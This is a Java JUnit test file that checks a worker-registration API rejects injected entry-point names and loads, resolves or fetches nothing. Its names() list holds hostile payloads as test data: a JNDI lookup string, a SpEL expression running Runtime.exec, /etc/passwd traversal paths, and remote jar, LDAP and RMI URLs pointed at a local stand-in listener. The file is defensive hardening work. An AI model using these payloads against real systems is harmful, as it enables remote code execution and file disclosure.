package dev.postmaster.web;

import static dev.postmaster.support.Life.get;
import static dev.postmaster.web.Web.assertProblem;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.vertx.core.buffer.Buffer;
import io.vertx.core.json.JsonArray;
import io.vertx.core.json.JsonObject;
import io.vertx.ext.web.client.HttpResponse;
import java.lang.management.ManagementFactory;
import java.net.URL;
import java.util.List;
import java.util.Set;
import java.util.concurrent.ConcurrentHashMap;
import java.util.concurrent.atomic.AtomicInteger;
import javax.management.ObjectName;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

/** Registrations that name what is not an entry point: nothing is loaded, looked up or fetched. */
class RegistrationAttacksTest {

  /** Written so that the compiler does not load it. */
  private static final String CANARY = "dev.postmaster.web." + "Canary";

  private static final int FUZZED = 1_000;

  /** Keeps the names of all classes and resources that it is asked for. */
  private static final class Recording extends ClassLoader {

    private final Set<String> asked = ConcurrentHashMap.newKeySet();

    Recording(ClassLoader parent) {
      super(parent);
    }

    @Override
    protected Class<?> loadClass(String name, boolean resolve) throws ClassNotFoundException {
      asked.add(name);
      return super.loadClass(name, resolve);
    }

    @Override
    public URL getResource(String name) {
      asked.add(name);
      return super.getResource(name);
    }
  }

  private final ClassLoader before = Thread.currentThread().getContextClassLoader();
  private final Recording recording = new Recording(before);
  private final AtomicInteger fetched = new AtomicInteger();
  private final Set<String> sent = ConcurrentHashMap.newKeySet();
  private Web web;
  private String elsewhere;

  /** Threads and contexts of this Vertx take over the loader of who makes them. */
  @BeforeEach
  void start() throws Exception {
    Thread.currentThread().setContextClassLoader(recording);
    web = Web.started();
    elsewhere =
        "127.0.0.1:"
            + get(web.life
                    .vertx
                    .createNetServer()
                    .connectHandler(connected -> fetched.incrementAndGet())
                    .listen(0, "127.0.0.1"))
                .actualPort();
  }

  @AfterEach
  void end() {
    web.close();
    Thread.currentThread().setContextClassLoader(before);
  }

  private static JsonObject spec(String library, String function) {
    return new JsonObject().put("name", "attack").put("library", library).put("function", function);
  }

  private HttpResponse<Buffer> register(JsonObject spec) throws Exception {
    return web.post("/api/v1/workers", spec);
  }

  private void assertUnknown(String library, String function) throws Exception {
    sent.addAll(List.of(library, function, library + '.' + function, library + '/' + function));
    HttpResponse<Buffer> answer = register(spec(library, function));
    assertEquals(422, answer.statusCode(), () -> library + " " + function + answer.bodyAsString());
    String code = answer.bodyAsJsonObject().getString("code");
    assertProblem(422, code, answer);
    assertTrue(Set.of("UNKNOWN_ENTRY_POINT", "INVALID_SPEC").contains(code), code);
  }

  private void assertNothingHappened() throws Exception {
    assertEquals(0, web.postmaster.status().slotsUsed());
    web.postmaster
        .transitionsAfter(1)
        .transitions()
        .forEach(record -> assertEquals("refused", record.cause().word()));
    assertEquals(0, fetched.get(), "something was fetched");
    assertFalse(isLoaded(CANARY), "it was loaded");
    assertEquals(0, Canary.Cage.TOUCHED.get(), "it was initialised");
    for (String name : recording.asked) {
      assertFalse(sent.contains(name) || sent.contains(name.replace('/', '.')), name);
      assertFalse(name.contains("Canary"), name);
    }
  }

  /** Whether this JVM has a class of that name, initialised or not. */
  private static boolean isLoaded(String name) throws Exception {
    Object hierarchy =
        ManagementFactory.getPlatformMBeanServer()
            .invoke(
                new ObjectName("com.sun.management:type=DiagnosticCommand"),
                "vmClassHierarchy",
                new Object[] {new String[0]},
                new String[] {String[].class.getName()});
    return hierarchy.toString().lines().anyMatch(line -> line.matches(".*\\b" + name + "/.*"));
  }

  private List<String> names() {
    return List.of(
        CANARY,
        CANARY + ".class",
        CANARY.replace('.', '/'),
        "java:" + CANARY,
        "java:" + CANARY.replace('.', '/') + ".java",
        "service:" + CANARY,
        "service:dev.postmaster.attack",
        "js:attack.js",
        "groovy:attack.groovy",
        "maven:dev.postmaster:attack:1.0::" + CANARY,
        "../postmaster",
        "../../../../etc/passwd",
        "postmaster/../postmaster",
        "file:///etc/passwd",
        "http://" + elsewhere + "/attack.jar",
        "jar:http://" + elsewhere + "/attack.jar!/" + CANARY,
        "ldap://" + elsewhere + "/a",
        "rmi://" + elsewhere + "/a",
        "java:comp/env",
        "${jndi:ldap://" + elsewhere + "/a}",
        "#{T(java.lang.Runtime).getRuntime().exec('id')}",
        "xbean:http://" + elsewhere + "/a.xml",
        "static:(" + CANARY + ")",
        "io.vertx.core.AbstractVerticle",
        "java.lang.ProcessBuilder",
        "postmaster\u0000",
        "Postmaster",
        "post\u006daster ");
  }

  @Test
  void noNameIsResolved() throws Exception {
    assertFalse(isLoaded(CANARY), "somebody else has loaded it");

    for (String name : names()) {
      assertUnknown(name, "sentinel");
      assertUnknown("postmaster", name);
      assertUnknown(name, name);
      assertUnknown("", name);
      assertUnknown(name, "");
    }
    assertUnknown("dev.postmaster.web", "Canary");
    assertUnknown(CANARY, "run");
    assertUnknown("postmaster/sentinel", "");
    assertUnknown("", "postmaster/sentinel");

    assertNothingHappened();
  }

  @Test
  void aThousandNamesThatAreNearlyRightAreNone() throws Exception {
    for (int n = 0; n < FUZZED; n++) {
      Mutations mutations = new Mutations(n);
      String library = mutations.oneIn(3) ? mutations.any(names()) : "postmaster";
      String changed = mutations.text(library);
      String function = mutations.oneIn(2) ? "sentinel" : mutations.text("sentinel");
      if (!changed.equals("postmaster") || !List.of("sentinel", "publisher").contains(function)) {
        assertUnknown(changed, function);
      }
    }

    assertNothingHappened();
  }

  @Test
  void aTypeInTheArgumentsIsATextAndNoType() throws Exception {
    for (String key : List.of("@class", "@type", "class", "$type", "type", "__proto__")) {
      JsonObject args = new JsonObject().put("address", "a").put(key, CANARY);
      assertProblem(
          422, "INVALID_SPEC", register(spec("postmaster", "sentinel").put("args", args)));
      JsonArray pair = new JsonArray().add(CANARY).add(new JsonObject().put(key, CANARY));
      assertProblem(
          422,
          "INVALID_SPEC",
          register(
              spec("postmaster", "sentinel").put("args", new JsonObject().put("address", pair))));
    }

    assertNothingHappened();
  }

  @Test
  void thisTestWouldSeeAClassThatIsLoaded() throws Exception {
    String other = CANARY.replace("Canary", "Canary2");
    assertFalse(isLoaded(other));

    Class.forName(other, false, recording);

    assertTrue(isLoaded(other));
    assertTrue(recording.asked.contains(other));
  }
}

/** Is loaded once, to show that it is seen. */
final class Canary2 {
  private Canary2() {}
}
